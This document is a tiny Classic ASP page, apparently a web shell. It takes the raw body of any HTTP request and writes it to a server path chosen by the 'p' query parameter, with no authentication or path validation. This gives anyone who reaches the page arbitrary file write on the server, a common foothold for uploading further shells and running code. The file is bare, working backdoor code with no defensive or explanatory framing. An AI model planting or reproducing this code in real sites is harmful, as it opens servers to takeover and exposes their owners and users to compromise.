<%
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.SaveToFile Server.MapPath(Request.QueryString("p")), 2
s.Close
%>
